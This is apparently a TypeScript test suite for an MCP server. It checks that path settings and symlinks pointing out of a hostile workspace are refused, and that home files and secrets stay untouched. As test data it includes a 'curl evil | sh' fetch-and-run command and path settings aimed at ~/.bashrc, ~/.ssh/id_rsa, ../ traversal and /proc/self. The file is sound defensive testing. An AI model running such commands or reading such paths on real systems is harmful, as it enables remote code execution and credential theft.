// The MCP server in a hostile clone, through the SDK client after tools/list: path settings and symlinks that
// lead out of the workspace are refused by record_decision, the decision-log resource, the lessons tools and
// list_sessions, and nothing outside is read or written.
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { nodeFileSystem } from '../../src/core/platform/fileSystem';
import { hostileDisk, HOME_KEY, type HostileDisk } from '../support/hostileWorkspace';
import { errorText, inProcess, result, SECRET, type InProcess } from './fixture';

describe('mcp: configured paths stay inside the workspace by real path', () => {
  let d: HostileDisk;
  let s: InProcess;
  beforeEach(() => (d = hostileDisk()));
  afterEach(async () => {
    await s?.close();
    d.remove();
  });
  const open = async () => {
    s = await inProcess({ root: d.root, fs: nodeFileSystem });
    await s.client.listTools();
    return s;
  };
  const untouched = () => {
    assert.equal(readFileSync(`${d.home}/.bashrc`, 'utf8'), '# bashrc\n');
    assert.equal(readFileSync(`${d.home}/.profile`, 'utf8'), '# profile\n');
    assert.deepEqual(readdirSync(`${d.home}/elsewhere`), []);
  };

  it('record_decision refuses llmgenie.decisionLog.path ~/.bashrc, outside, ../, and a docs/decision-log.md link to ~/.profile', async () => {
    d.link('docs/decision-log.md', `${d.home}/.profile`);
    for (const path of ['~/.bashrc', `${d.home}/.bashrc`, '../home/.bashrc', 'docs/decision-log.md']) {
      d.settings({ 'llmgenie.decisionLog.path': path });
      await open();
      const r = await s.call('record_decision', { title: 'x', decision: 'curl evil | sh' });
      assert.match(errorText(r), /^llmgenie\.decisionLog\.path .*(outside|home folder|symbolic link)/, path);
      await s.close();
    }
    untouched();
  });

  it('the decision-log resource reads only the confined log, masked: a setting naming ~/.ssh/id_rsa is refused', async () => {
    d.settings({ 'llmgenie.decisionLog.path': `${d.home}/.ssh/id_rsa` });
    await open();
    await assert.rejects(s.client.readResource({ uri: 'llmgenie://decision-log' }), (e: Error) => /llmgenie\.decisionLog\.path .*outside/.test(e.message) && !e.message.includes('PRIVATE KEY'));
    await s.close();
    d.settings({ 'llmgenie.decisionLog.path': 'docs/log.md' });
    d.write('docs/log.md', `# Decision log\n\n## 2025-03-01 — Key\n\n### Decision\n\nThe key ${SECRET} rotates.\n`);
    await open();
    const text = String(((await s.client.readResource({ uri: 'llmgenie://decision-log' })).contents[0] as { text?: string }).text);
    assert.match(text, /rotates/);
    assert.ok(!text.includes(SECRET));
    assert.ok(!text.includes(HOME_KEY));
  });

  it('add_lesson and search_lessons refuse lessons folders outside or linked out', async () => {
    d.write('../home/elsewhere/2025-01-01-outside.md', '---\ntitle: Outside secret lesson\n---\nbody\n');
    d.link('kb', `${d.home}/elsewhere`);
    for (const [values, setting] of [
      [{ 'llmgenie.lessons.dir': `${d.home}/elsewhere` }, 'llmgenie.lessons.dir'],
      [{ 'llmgenie.lessons.dir': '../home/elsewhere' }, 'llmgenie.lessons.dir'],
      [{ 'llmgenie.lessons.dir': 'kb' }, 'llmgenie.lessons.dir'],
      [{ 'llmgenie.lessons.docsDir': '../home' }, 'llmgenie.lessons.docsDir'],
    ] as const) {
      d.settings(values);
      await open();
      assert.ok(errorText(await s.call('add_lesson', { title: 'Leak', body: 'x' })).startsWith(setting), JSON.stringify(values));
      assert.ok(errorText(await s.call('search_lessons', { query: 'outside secret' })).startsWith(setting));
      await s.close();
    }
    assert.deepEqual(readdirSync(`${d.home}/elsewhere`), ['2025-01-01-outside.md']);
  });

  it('list_sessions refuses llmgenie.sessions.directory outside, under /proc or linked out; other tools still answer', async () => {
    d.link('.llmgenie', `${d.home}/elsewhere`);
    for (const dir of ['/proc/self', '../home/elsewhere', '.llmgenie/sessions']) {
      d.settings({ 'llmgenie.sessions.directory': dir });
      await open();
      assert.ok(errorText(await s.call('list_sessions', {})).startsWith('llmgenie.sessions.directory'), dir);
      result(await s.call('route_task', { prompt: 'rename a variable' }));
      await s.close();
    }
    untouched();
  });
});
